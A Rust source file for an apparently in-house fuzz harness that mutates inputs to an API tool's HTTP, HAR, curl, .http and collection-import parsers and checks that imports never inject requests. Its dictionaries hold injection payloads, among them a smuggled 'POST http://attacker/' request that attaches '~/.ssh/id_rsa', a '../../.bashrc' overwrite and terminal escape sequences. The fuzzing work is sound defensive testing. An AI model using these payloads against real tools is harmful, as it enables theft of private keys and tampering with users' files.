//! Mutation fuzzing of every parser that reads what strangers send, on the
//! stable toolchain (cargo-fuzz and libFuzzer need nightly; AFL++ needs its
//! LLVM plugins built): each target's seeds in `fuzz/corpus/TARGET/` — the
//! hostile inputs of issue 10 and ordinary ones — are mutated (bit flips,
//! insertions of absurd numbers, escape sequences and structure, splices of
//! other seeds, truncation) and fed through the parser and everything that
//! follows it (decode, reports, redaction, the budget). A panic is a crash:
//! the input is written to `target/fuzz-crashes/` and reported.
//!
//! `cargo test -p apiscope-fuzz` runs every target for a few seconds (the
//! bound in CI); `cargo run -p apiscope-fuzz --release -- --secs 3600` runs
//! longer (see the README's Security section).

use apiscope_core::budget::{Budget, BudgetKey};
use apiscope_core::decode::{self, Options, Profiles};
use apiscope_core::input::{self, BareBody};
use apiscope_core::report::{self, Format};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// A parser under test: takes any bytes, must not panic.
pub struct Target {
    /// The name, also the corpus folder.
    pub name: &'static str,
    /// Runs one input.
    pub run: fn(&[u8]),
    /// Fragments worth inserting for this parser.
    pub dictionary: &'static [&'static str],
}

/// Every target.
pub const TARGETS: &[Target] = &[
    Target {
        name: "raw_http",
        run: raw_http,
        dictionary: &[
            "HTTP/1.1 ",
            "\r\n",
            "\r\n\r\n",
            "Content-Encoding: gzip\r\n",
            "Content-Encoding: br\r\n",
            "Transfer-Encoding: chunked\r\n",
            "Content-Type: application/json\r\n",
            "Link: <?page=2>; rel=\"next\"\r\n",
            "X-RateLimit-Reset: ",
            "Retry-After: ",
            "{\"error\":{\"code\":",
            "\"errors\":[",
            "0\r\n\r\n",
            "* ",
            "< ",
            "> ",
        ],
    },
    Target {
        name: "har",
        run: har,
        dictionary: &[
            "{\"log\":{\"entries\":[",
            "\"response\":{\"status\":",
            "\"request\":{\"method\":\"GET\",\"url\":",
            "\"content\":{\"text\":",
            "\"encoding\":\"base64\"",
            "\"headers\":[{\"name\":",
            "\"value\":",
            "\"startedDateTime\":",
            "\"time\":",
            "},{",
        ],
    },
    Target {
        name: "session",
        run: session,
        dictionary: &[
            "\"version\":",
            "\"exchanges\":[",
            "\"request\":",
            "\"response\":",
            "\"status\":",
            "\"body\":",
            "\"body_base64\":",
            "\"headers\":[[",
            "\"timing\":",
            "4294967296",
        ],
    },
    Target {
        name: "curl",
        run: curl,
        dictionary: &[
            "curl ",
            " -H '",
            " -X ",
            " --data-raw ",
            " -d @",
            " --json ",
            " -u ",
            " -F ",
            " --url ",
            " $'",
            "\\\n",
            "\\e]0;",
            " -G ",
            " --data-urlencode ",
            " -b ",
            " --compressed",
            "{{env.X}}",
        ],
    },
    Target {
        name: "link",
        run: link,
        dictionary: &[
            "<",
            ">",
            "; rel=\"next\"",
            "; rel=next",
            ", ",
            "rel=\"prev last\"",
            "https://a.example/?page=",
            "title*=UTF-8''",
            "\"",
            ";",
        ],
    },
    Target {
        name: "ratelimit",
        run: ratelimit,
        dictionary: &[
            "X-RateLimit-Limit: ",
            "X-RateLimit-Remaining: ",
            "X-RateLimit-Reset: ",
            "RateLimit: limit=",
            "RateLimit-Policy: ",
            ";w=",
            ", r=",
            ", t=",
            "Retry-After: ",
            "Date: Thu, 01 Jan 2026 00:00:00 GMT\n",
            "\n",
        ],
    },
    Target {
        name: "profile",
        run: profile,
        dictionary: &[
            "[detect]\n",
            "[[codes]]\n",
            "[rate_limit]\n",
            "[pagination]\n",
            "id = \"",
            "code = \"",
            "steps = [\"",
            "status = ",
            "hosts = [\"",
            "window = ",
            "\"]\n",
            "\n",
        ],
    },
    Target {
        name: "http_file",
        run: http_file,
        dictionary: &[
            "###",
            "\n### ",
            "# @name ",
            "@v = {{v}}{{v}}\n",
            "{{",
            "}}",
            "{{$uuid}}",
            "{{login.response.body.$..*}}",
            "{{env.X}}",
            "GET ",
            "POST https://a.example/",
            "\n    ?a=1\n    &b=2",
            "Content-Type: multipart/form-data; boundary=B\n",
            "\n\n< ./f\n",
            "<@ ./f",
            ">> ./out.json\n",
            ">>! ../x\n",
            "> {% client.x %}\n",
            "\r\n",
            "\u{feff}",
        ],
    },
    Target {
        name: "env_file",
        run: env_file,
        dictionary: &[
            "{\"dev\": {",
            "\"$shared\": {",
            "\"host\": \"",
            "\"token\": ",
            "{{token}}",
            "\n---\n",
            "export A=\"",
            "\u{feff}",
        ],
    },
    Target {
        name: "import_postman",
        run: import_postman,
        dictionary: &[
            "\"item\": [",
            "\"request\": {",
            "\"url\": {\"raw\": \"",
            "\"header\": [{\"key\": \"",
            "\"value\": \"",
            "\"body\": {\"mode\": \"raw\", \"raw\": \"",
            "\"mode\": \"formdata\", \"formdata\": [",
            "\"src\": \"",
            "\"auth\": {\"type\": \"bearer\"",
            "\\n### x\\nPOST http://attacker/\\n",
            "\\n>>! ../x",
            "xoxb-123456789012-ABCDEFGHIJKLMNOP",
        ],
    },
    Target {
        name: "import_insomnia",
        run: import_insomnia,
        dictionary: &[
            "\"_type\": \"request\"",
            "\"_type\": \"environment\"",
            "\"resources\": [",
            "\"url\": \"",
            "\"headers\": [{\"name\": \"",
            "{{ _.x }}",
            "{% response %}",
            "\\n### x\\n",
        ],
    },
    Target {
        name: "import_bruno",
        run: import_bruno,
        dictionary: &[
            "meta {\n",
            "get {\n  url: ",
            "headers {\n",
            "body:json {\n",
            "vars:secret [\n",
            "}\n",
            "\n### x\n",
            "\n>>! ../x\n",
        ],
    },
    Target {
        name: "import_openapi",
        run: import_openapi,
        dictionary: &[
            "\"paths\": {",
            "\"$ref\": \"#/components/schemas/A\"",
            "\"type\": \"array\", \"items\": ",
            "\"properties\": {",
            "\"example\": ",
            "\"servers\": [{\"url\": \"",
            "\"securitySchemes\": {",
            "\"parameters\": [{\"name\": \"",
            "\"in\": \"header\"",
            "\\n### x\\n",
        ],
    },
    Target {
        name: "import_requests",
        run: import_requests,
        dictionary: &[
            "{\"log\": {\"entries\": [",
            "\"request\": {\"method\": \"",
            "\"url\": \"http://h/",
            "\"headers\": [{\"name\": \"",
            "\"value\": \"",
            "\"postData\": {\"text\": \"",
            "\\n### x\\nPOST http://attacker/\\n\\n< ~/.ssh/id_rsa",
            "\\n>>! ../../.bashrc",
            "{{host}}",
            "curl -H 'X: ",
            " --data-binary @",
        ],
    },
    Target {
        name: "redact",
        run: redact,
        dictionary: &[
            "\"password\":",
            "\"access_token\":",
            "&client_secret=",
            "Bearer ",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.",
            "ghp_",
            "https://a.example/?token=",
            "\u{feff}",
            "{\"secret\":{",
            "[[[[[[[[",
        ],
    },
];

/// Strings that break parsers anywhere: absurd numbers, escapes, controls.
const COMMON: &[&str] = &[
    "99999999999999999999999",
    "18446744073709551616",
    "253402300800",
    "1e23",
    "-1",
    "NaN",
    "0",
    "null",
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}[2J",
    "\u{202e}",
    "\u{9b}",
    "\u{0}",
    "\\u0000",
    "\\ud800",
    "%",
    "%ZZ",
    "\"",
    "\\",
    "{",
    "}",
    "[",
    "]",
    "é",
    "\u{fffd}",
];

fn profiles() -> &'static Profiles {
    static P: OnceLock<Profiles> = OnceLock::new();
    P.get_or_init(Profiles::built_in)
}

fn options() -> Options {
    Options {
        dialect: None,
        now: Some(1_767_225_600),
    }
}

/// Diagnoses, renders and writes what a parser accepted, as apiscope would.
fn downstream(exchanges: &[apiscope_core::model::Exchange]) {
    let profiles = profiles();
    let diagnoses = decode::diagnose_all(exchanges, profiles, &options());
    for f in [Format::Text, Format::Json, Format::Markdown] {
        let _ = report::render(f, &diagnoses, false);
    }
    let mut budget = Budget::default();
    let now = Instant::now();
    for (e, d) in exchanges.iter().zip(&diagnoses) {
        let key = e.request.as_ref().map_or_else(
            || BudgetKey {
                host: String::new(),
                credential: None,
            },
            BudgetKey::for_request,
        );
        let documented = apiscope_core::budget::documented(profiles, e, d);
        budget.record(&key, now, d.status, d.rate_limit.as_ref(), documented);
        let _ = budget.next_send_at(&key, now);
        let _ = budget.view(&key, now);
        let mut redacted = e.clone();
        apiscope_core::redact::exchange(&mut redacted);
    }
    let _ = input::session::to_json(Some("fuzz"), exchanges, profiles, false);
    let _ = input::har::to_json(exchanges, false);
}

fn raw_http(bytes: &[u8]) {
    if let Ok(exchanges) = input::read_bytes(bytes, "fuzz.txt", &BareBody::default()) {
        downstream(&exchanges);
    }
}

fn har(bytes: &[u8]) {
    if let Ok(exchanges) = input::har::read(bytes, "fuzz.har") {
        downstream(&exchanges);
    }
    let mut n = 0;
    let _ = input::har::for_each_slice(bytes, "fuzz.har", |_| {
        n += 1;
        Ok(())
    });
}

fn session(bytes: &[u8]) {
    if let Ok(exchanges) = input::session::read(bytes, "fuzz.json") {
        downstream(&exchanges);
    }
}

fn curl(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    if let Ok(requests) = input::curl::parse_all(&text) {
        for r in &requests {
            let _ = apiscope_core::line::curl_command(r);
            let _ = apiscope_core::items::to_words(r);
        }
    }
}

fn link(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for l in decode::pagination::parse_link_header(&text) {
        assert!(
            !l.target.contains('>'),
            "a target holds '>': {:?}",
            l.target
        );
    }
}

fn ratelimit(bytes: &[u8]) {
    // Each line a header of a 429 (and of a 200) answer.
    let text = String::from_utf8_lossy(bytes);
    for status in ["429 Too Many Requests", "200 OK"] {
        let mut raw = format!("HTTP/1.1 {status}\r\n");
        for line in text.lines().filter(|l| l.contains(':')) {
            raw.push_str(line.trim_end_matches('\r'));
            raw.push_str("\r\n");
        }
        raw.push_str("Content-Type: application/json\r\n\r\n{}");
        raw_http(raw.as_bytes());
    }
}

fn profile(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    if let Ok(p) = decode::profile::parse_profile(&text) {
        let mut profiles = Profiles::built_in();
        profiles.add(p);
        let raw = b"HTTP/1.1 429 Too Many Requests\r\nContent-Type: application/json\r\n\r\n{\"error\":{\"code\":\"X\",\"message\":\"m\"}}";
        if let Ok(exchanges) = input::read_bytes(raw, "p.txt", &BareBody::default()) {
            let _ = decode::diagnose_all(&exchanges, &profiles, &options());
        }
    }
}

fn redact(bytes: &[u8]) {
    let _ = apiscope_core::redact::body(bytes);
    let _ = apiscope_core::redact::text(&String::from_utf8_lossy(bytes));
    let _ = apiscope_core::redact::url(&String::from_utf8_lossy(bytes));
}

/// A world for collection targets: a fixed clock, no environment, and the
/// files it was given (nothing of the disk).
struct Files(Vec<(PathBuf, Vec<u8>)>);

impl apiscope_core::collection::vars::World for Files {
    fn now(&self) -> i64 {
        1_767_225_600
    }
    fn var(&self, name: &str) -> Option<String> {
        (name == "X").then(|| "x".to_owned())
    }
    fn read(&self, path: &Path) -> std::io::Result<Vec<u8>> {
        self.0
            .iter()
            .find(|(p, _)| p == path)
            .map(|(_, b)| b.clone())
            .ok_or_else(|| std::io::Error::new(std::io::ErrorKind::NotFound, "no such file"))
    }
    fn canonical(&self, path: &Path) -> std::io::Result<PathBuf> {
        Ok(apiscope_core::collection::trust::normalise(
            &Path::new("/c").join(path),
        ))
    }
    fn facts(&self, path: &Path) -> std::io::Result<apiscope_core::collection::trust::FileFacts> {
        let len = self.read(path)?.len() as u64;
        Ok(apiscope_core::collection::trust::FileFacts {
            kind: apiscope_core::collection::trust::FileKind::Regular,
            len,
        })
    }
}

/// A collection run over `file`, its responses faked, every request sent
/// as far as the engine allows, plus every edit of the file.
fn exercise(
    file: apiscope_core::collection::HttpFile,
    envs: apiscope_core::collection::vars::Environments,
    world: &Files,
) {
    use apiscope_core::collection::run::{CollectionRun, Next};
    use apiscope_core::collection::trust::Trust;
    let names = envs.names();
    let mut run = CollectionRun::new(
        vec![file.clone()],
        vec![envs],
        Trust::new(PathBuf::from("/c"), true, []),
    );
    let _ = run.set_env(names.first().map(String::as_str));
    let _ = run.preview(world);
    let ids: Vec<_> = run.ids().take(16).collect();
    for id in ids {
        let mut plan = run.plan(id);
        for _ in 0..8 {
            match run.next(&mut plan, world) {
                Next::Send { ticket, .. } | Next::Ready { ticket, .. } => {
                    let mut e = apiscope_core::model::Exchange::default();
                    e.response.status = Some(200);
                    e.response.body = b"{\"token\":\"t\",\"a\":[1,{\"b\":2}]}".to_vec().into();
                    run.received(&ticket, e, world);
                }
                Next::Confirm(c) => run.confirm(&c),
                Next::Failed(_) => break,
            }
        }
    }
    for (i, r) in file.requests.iter().enumerate().take(8) {
        let line = r.template_line();
        if let Ok(new) = r.with_line(&line) {
            let _ = file.replace(i, &new);
        }
        let _ = file.remove(i);
        let _ = file.duplicate(i, "copy");
        if let Some(n) = &r.name {
            let _ = file.rename_references(n, "renamed");
        }
        let _ = apiscope_core::line::mask_line(&line);
    }
    for i in 0..file.problems.len().min(4) {
        let _ = file.remove_broken(i);
    }
}

fn http_file(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let file = apiscope_core::collection::parse_lenient(Path::new("/c/api.http"), &text);
    let world = Files(vec![(
        PathBuf::from("/c/f"),
        b"{\"a\": \"{{v}}\"}".to_vec(),
    )]);
    exercise(
        file,
        apiscope_core::collection::vars::Environments::default(),
        &world,
    );
}

fn env_file(bytes: &[u8]) {
    // The same bytes as each of the three files beside a collection.
    let world = Files(vec![
        (PathBuf::from("/c/http-client.env.json"), bytes.to_vec()),
        (
            PathBuf::from("/c/http-client.private.env.json"),
            bytes.to_vec(),
        ),
        (PathBuf::from("/c/.env"), bytes.to_vec()),
    ]);
    let Ok(envs) = apiscope_core::collection::vars::Environments::load(Path::new("/c"), &world)
    else {
        return;
    };
    let _ = envs.secret_values();
    let file = apiscope_core::collection::parse_lenient(
        Path::new("/c/api.http"),
        "GET https://{{host}}/x?t={{token}}\nAuthorization: Bearer {{$dotenv A}}\n",
    );
    exercise(file, envs, &world);
}

/// What an import wrote must read back as exactly its requests: nothing
/// a stranger wrote becomes a request or a directive.
fn read_back(mut imported: apiscope_core::collection::import::Imported) {
    apiscope_core::collection::import::harden::harden(&mut imported);
    let text = imported.http_text();
    let file = apiscope_core::collection::parse_lenient(Path::new("/c/i.http"), &text);
    assert!(
        file.problems.is_empty() && file.requests.len() == imported.requests.len(),
        "an import wrote a .http that reads back differently ({} requests, {} problems): {text}",
        file.requests.len(),
        file.problems.len()
    );
    for r in &file.requests {
        assert!(r.output.is_none(), "an import wrote a >> line: {text}");
    }
}

fn json_of(bytes: &[u8]) -> Option<serde_json::Value> {
    serde_json::from_slice(bytes).ok()
}

fn import_postman(bytes: &[u8]) {
    if let Some(doc) = json_of(bytes)
        && let Ok(i) = apiscope_core::collection::import::from_postman(&doc, &[])
    {
        read_back(i);
    }
}

fn import_insomnia(bytes: &[u8]) {
    if let Some(doc) = json_of(bytes)
        && let Ok(i) = apiscope_core::collection::import::from_insomnia(&doc)
    {
        read_back(i);
    }
}

fn import_bruno(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let files = vec![
        ("bruno.json".to_owned(), "{\"name\": \"b\"}".to_owned()),
        ("req.bru".to_owned(), text.clone()),
        ("environments/dev.bru".to_owned(), text),
    ];
    read_back(apiscope_core::collection::import::from_bruno(&files, "b"));
}

/// A customer's HAR, curl command or session imported (`apiscope import`):
/// whatever its names, URLs, headers and bodies hold, the `.http` written
/// reads back as exactly its requests (no request, `<` or `>>` injected).
fn import_requests(bytes: &[u8]) {
    let requests: Vec<apiscope_core::model::Request> = match input::har::read(bytes, "fuzz.har") {
        Ok(exchanges) => exchanges.into_iter().filter_map(|e| e.request).collect(),
        Err(_) => match input::session::read(bytes, "fuzz.json") {
            Ok(exchanges) => exchanges.into_iter().filter_map(|e| e.request).collect(),
            Err(_) => input::curl::parse_all(&String::from_utf8_lossy(bytes)).unwrap_or_default(),
        },
    };
    if requests.is_empty() {
        return;
    }
    read_back(apiscope_core::collection::import::from_requests(
        "fuzz", "har", &requests, "dev",
    ));
}

fn import_openapi(bytes: &[u8]) {
    if let Some(doc) = json_of(bytes)
        && let Ok(i) = apiscope_core::collection::import::openapi::from_openapi(&doc)
    {
        read_back(i);
        let _ = apiscope_core::collection::import::openapi::profile(&doc);
    }
}

/// The seeds of a target: every file of `fuzz/corpus/NAME/`.
pub fn seeds(name: &str) -> Vec<Vec<u8>> {
    let dir = corpus_dir().join(name);
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    files.sort();
    let mut seeds: Vec<Vec<u8>> = files.iter().filter_map(|p| std::fs::read(p).ok()).collect();
    if seeds.is_empty() {
        seeds.push(Vec::new());
    }
    seeds
}

/// `fuzz/corpus`.
pub fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus")
}

/// One random change to `input`.
fn mutate_once(rng: &mut fastrand::Rng, input: &mut Vec<u8>, dict: &[&str], seeds: &[Vec<u8>]) {
    let pos = |rng: &mut fastrand::Rng, len: usize| rng.usize(0..=len);
    match rng.u8(0..9) {
        0 if !input.is_empty() => {
            let i = rng.usize(0..input.len());
            input[i] ^= 1 << rng.u8(0..8);
        }
        1 if !input.is_empty() => {
            let i = rng.usize(0..input.len());
            input[i] = rng.u8(..);
        }
        2 => {
            let i = pos(rng, input.len());
            input.insert(i, rng.u8(..));
        }
        3 if !input.is_empty() => {
            let a = rng.usize(0..input.len());
            let b = (a + rng.usize(1..=16)).min(input.len());
            input.drain(a..b);
        }
        4 if !input.is_empty() => {
            // Repeat a piece (deep nesting, long runs).
            let a = rng.usize(0..input.len());
            let b = (a + rng.usize(1..=8)).min(input.len());
            let piece = input[a..b].to_vec();
            let times = rng.usize(1..=64);
            let at = pos(rng, input.len());
            for _ in 0..times {
                input.splice(at..at, piece.iter().copied());
            }
        }
        5 => {
            let word = dict[rng.usize(0..dict.len())];
            let i = pos(rng, input.len());
            input.splice(i..i, word.bytes());
        }
        6 => {
            let word = COMMON[rng.usize(0..COMMON.len())];
            let i = pos(rng, input.len());
            input.splice(i..i, word.bytes());
        }
        7 => {
            // Splice in a piece of another seed.
            let other = &seeds[rng.usize(0..seeds.len())];
            if !other.is_empty() {
                let a = rng.usize(0..other.len());
                let b = (a + rng.usize(1..=64)).min(other.len());
                let i = pos(rng, input.len());
                input.splice(i..i, other[a..b].iter().copied());
            }
        }
        _ => {
            let keep = pos(rng, input.len());
            input.truncate(keep);
        }
    }
}

/// A seed with one to eight random changes.
pub fn mutate(rng: &mut fastrand::Rng, seeds: &[Vec<u8>], dict: &[&str]) -> Vec<u8> {
    let mut input = seeds[rng.usize(0..seeds.len())].clone();
    for _ in 0..rng.usize(1..=8) {
        mutate_once(rng, &mut input, dict, seeds);
    }
    // Inputs stay small: the caps on big ones have their own tests.
    input.truncate(64 << 10);
    input
}

/// What a run did.
#[derive(Debug)]
pub struct Stats {
    /// Inputs run (seeds included).
    pub runs: u64,
}

/// An input that panicked.
#[derive(Debug)]
pub struct Crash {
    /// The target.
    pub target: &'static str,
    /// Where the input was written.
    pub saved: PathBuf,
    /// The panic's message.
    pub message: String,
}

/// Runs `target`'s seeds, then mutations of them until `budget` has passed
/// or `max_runs` inputs have run.
pub fn run(target: &Target, budget: Duration, max_runs: u64, seed: u64) -> Result<Stats, Crash> {
    let seeds = seeds(target.name);
    let mut rng = fastrand::Rng::with_seed(seed);
    let deadline = Instant::now() + budget;
    let mut runs = 0;
    let mut next: Vec<u8>;
    let mut queue = seeds.clone().into_iter();
    while runs < max_runs {
        next = match queue.next() {
            Some(s) => s,
            None if Instant::now() < deadline => mutate(&mut rng, &seeds, target.dictionary),
            None => break,
        };
        runs += 1;
        let input = next;
        let outcome = catch_unwind(AssertUnwindSafe(|| (target.run)(&input)));
        if let Err(e) = outcome {
            let message = e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| (*s).to_owned()))
                .unwrap_or_default();
            let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../target/fuzz-crashes")
                .join(target.name);
            let _ = std::fs::create_dir_all(&dir);
            let saved = dir.join(format!("crash-{seed}-{runs}"));
            let _ = std::fs::write(&saved, &input);
            return Err(Crash {
                target: target.name,
                saved,
                message,
            });
        }
    }
    Ok(Stats { runs })
}
